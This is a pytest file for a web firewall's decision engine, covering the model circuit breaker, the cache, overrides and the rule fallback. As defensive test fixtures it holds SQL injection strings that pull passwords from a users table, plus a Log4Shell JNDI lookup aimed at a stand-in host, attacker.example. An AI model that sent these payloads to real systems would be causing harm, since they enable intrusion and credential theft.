"""engine/decide.py: overrides → cache → model behind the breaker → rules, each path and each fault."""

import pytest

from engine.decide import Decider, EngineSettings
from engine.features import Features
from engine.labels import route_label
from engine.verdict import Source
from tests.factories import FakeModel

SQLI = Features.build("GET", "/", "id=1%27%20OR%201%3D1--")
PAGE = Features.build("GET", "/products", "page=2", {"User-Agent": "Mozilla/5.0"})


def make_decider(clock, model=None, **settings):
    return Decider.create(EngineSettings(**{"timeout_ms": 30, **settings}), clock=clock, model=model)


async def test_hanging_model_opens_the_breaker_and_rules_answer(clock):
    model = FakeModel(hang=True)
    d = make_decider(clock, model, failures_to_open=5, reset_after_s=30)
    for _ in range(5):
        v = await d.decide(SQLI)
        assert v.source is Source.RULES and v.label == "block"  # the rules still block the attack
    assert d.breaker.state == "open"
    v = await d.decide(PAGE)
    assert v.source is Source.RULES and v.label != "block"
    assert model.calls == 5  # the open breaker does not call the model
    health = d.health()
    assert health["status"] == "unavailable" and "breaker" in health["reason"]
    # recovery: after the reset time one trial goes through; success closes the breaker
    model.hang = False
    clock.advance(30)
    v = await d.decide(PAGE)
    assert v.source is Source.MODEL and model.calls == 6
    assert d.breaker.state == "closed" and d.health()["status"] == "ok"


async def test_failing_model_falls_back_to_rules(clock):
    d = make_decider(clock, FakeModel(error=True))
    v = await d.decide(SQLI)
    assert v.source is Source.RULES and v.blocked
    assert d.fallbacks["error"] == 1


async def test_missing_bundle_decides_on_rules_and_health_says_why(clock, tmp_path):
    d = make_decider(clock, bundle=str(tmp_path / "missing"))
    assert d.model is None
    assert (await d.decide(SQLI)).source is Source.RULES
    health = d.health()
    assert health["status"] == "unavailable" and "not a folder" in health["reason"]


async def test_real_model_answers_then_cache_then_expiry(clock):
    d = make_decider(clock, timeout_ms=5000, cache_ttl_s=600)
    try:
        first = await d.decide(PAGE)
        assert first.source is Source.MODEL and first.model == d.model_id
        again = await d.decide(Features.build("GET", "/products", "page=2", {"User-Agent": "Mozilla/5.0"}))
        assert again.source is Source.CACHE and again.label == first.label
        clock.advance(601)
        assert (await d.decide(PAGE)).source is Source.MODEL
        assert d.health()["status"] == "ok" and d.health()["model"]["name"]
    finally:
        await d.close()


async def test_overrides_come_first(clock):
    model = FakeModel(scores={"allow": 1.0})
    d = make_decider(clock, model, overrides=({"id": "deny-admin", "action": "deny", "path_prefix": "/admin"},))
    v = await d.decide(Features.build("GET", "/admin/users"))
    assert v.source is Source.OVERRIDE and v.label == "block"
    assert model.calls == 0


async def test_rules_scan_what_a_truncated_model_input_missed(clock):
    """The model saw only the start of the body and allowed it; the rules read the whole and block."""
    from engine.verdict import Verdict

    class Truncating(FakeModel):
        async def predict(self, features):
            v = await super().predict(features)
            return Verdict(v.label, v.confidence, source=Source.MODEL, model=self.id, truncated=True)

    body = "a=" + "x" * 1000 + "&q=1%27%20UNION%20SELECT%20password%20FROM%20users--"
    f = Features.build("POST", "/form", headers={"content-type": "application/x-www-form-urlencoded"}, body=body)
    v = await make_decider(clock, Truncating(scores={"origin": 1.0})).decide(f)
    assert v.source is Source.RULES and v.blocked


async def test_disabled_decisions_use_rules_routing(clock):
    d = make_decider(clock, disabled=True)
    v = await d.decide(PAGE)
    assert d.model is None and v.source is Source.RULES
    assert d.health()["status"] == "ok"


@pytest.mark.parametrize("n", [3])
async def test_counts_by_source(clock, n):
    d = make_decider(clock, FakeModel(scores={"allow": 1.0}))
    for _ in range(n):
        await d.decide(PAGE)
    assert d.counts["model"] == 1 and d.counts["cache"] == n - 1


@pytest.mark.parametrize("ensemble, source, label", [(True, Source.RULES, "block"), (False, Source.MODEL, "allow")])
async def test_ensemble_rules_block_what_the_model_let_through(clock, ensemble, source, label):
    jndi = Features.build("GET", "/", headers={"User-Agent": "${jndi:ldap://attacker.example/a}"})
    d = make_decider(clock, FakeModel(scores={"allow": 1.0}), ensemble=ensemble)
    v = await d.decide(jndi)
    assert (v.source, v.label) == (source, label)
    assert (await d.decide(jndi)).source is Source.CACHE  # the combined decision is cached
    assert d.cache_id.endswith(d.rules.model) is ensemble  # a ruleset change cannot serve stale decisions


async def test_the_rules_read_a_large_body_off_the_event_loop(clock):
    """The ensemble's second look at a body over 4 KB takes milliseconds: it runs in a thread, so the
    loop keeps serving other requests; a small request is read inline (a thread costs more than it)."""
    import json
    import threading

    d = make_decider(clock, FakeModel())
    seen: list[str] = []
    evaluate = d.rules.evaluate

    def spy(features, read_whole=False):
        seen.append(threading.current_thread().name)
        return evaluate(features, read_whole)

    d.rules.evaluate = spy
    doc = json.dumps({"items": [{"note": f"line {i} of the export, with words"} for i in range(2000)]})
    big = Features.build("POST", "/api/import", body=doc, headers={"Content-Type": "application/json"})
    assert len(big.body) > 4096
    await d.decide(big)
    await d.decide(PAGE)
    assert seen[0] != threading.main_thread().name and seen[1] == threading.main_thread().name


@pytest.mark.parametrize("asset_probes, label, source", [(True, "cache", Source.RULES), (False, "block", Source.MODEL)])
async def test_a_model_block_of_a_page_asset_as_a_probe_goes_to_the_rules_unless_configured(clock, asset_probes, label, source):
    css = Features.build("GET", "/typo3conf/ext/news/Resources/Public/Css/news.css",
                         headers={"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"})
    d = make_decider(clock, FakeModel(scores={"block": 1.0}, features=("scanner",)), asset_probes=asset_probes)
    v = await d.decide(css)
    assert (v.label, v.source) == (label, source)
    assert d.cache_id.endswith("+asset-blocks") is not asset_probes  # a decision cached under the other setting is not served
    sqli = Features.build("GET", "/static/app.js", "q=1' UNION SELECT password FROM users--")
    d2 = make_decider(clock, FakeModel(scores={"block": 1.0}, features=("sqli",)), asset_probes=asset_probes)
    assert (await d2.decide(sqli)).label == "block"  # another attack tag: the model's block stands either way


LET_THROUGH = [
    Features.build("GET", "/static/js/app.3f2c9a.js", headers={"Cookie": "_ga=GA1.2.3", "User-Agent": "Mozilla/5.0"}),
    Features.build("POST", "/api/cart", body='{"sku": "A-12", "qty": 2}', headers={"Content-Type": "application/json"}),
    Features.build("GET", "/account/orders", headers={"User-Agent": "Mozilla/5.0"}),
    PAGE,
]


@pytest.mark.parametrize("routing, expect", [("auto", "policy"), ("policy", "policy"), ("model", "model")])
async def test_what_the_real_model_lets_through_is_routed_as_configured(clock, routing, expect):
    d = make_decider(clock, timeout_ms=5000, routing=routing, ensemble=False)
    try:
        assert d.model.routing == expect and d.health()["model"]["routing"] == expect
        assert d.cache_id.endswith("+policy-routes") is (expect == "policy")  # no decision crosses a change
        m = d.model.model
        for f in LET_THROUGH:
            v = await d.decide(f)
            assert v.source is Source.MODEL and not v.blocked
            labels, feats = m.run([m.encode(f)])
            head = m.verdict(labels[0], feats[0])
            if expect == "policy":
                assert (v.label, v.features) == route_label(f)
                assert v.confidence == pytest.approx(1 - head.scores[0], abs=1e-3)
            else:
                assert v.label == head.label
    finally:
        await d.close()
